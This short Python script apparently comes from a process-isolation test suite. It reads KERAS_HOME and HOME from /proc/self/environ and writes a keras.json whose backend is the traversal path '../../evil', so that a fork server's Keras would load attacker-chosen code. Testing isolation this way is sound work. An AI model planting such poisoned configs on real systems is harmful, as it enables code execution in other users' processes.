"""Leaves a keras.json in the folder that the fork server's Keras reads."""

import os

import targets
from honest import convolve2d
from tools import attempt

for variable in ("KERAS_HOME", "HOME"):
    with open("/proc/self/environ", "rb") as file:
        entries = dict(entry.split(b"=", 1) for entry in file.read().split(b"\0") if b"=" in entry)
    folder = os.fsdecode(entries.get(variable.encode(), b""))
    file = attempt(open, os.path.join(folder, "keras.json"), "w") if folder else None
    if file is not None:
        file.write('{"backend": "../../evil", "floatx": "float16"}')
        file.close()
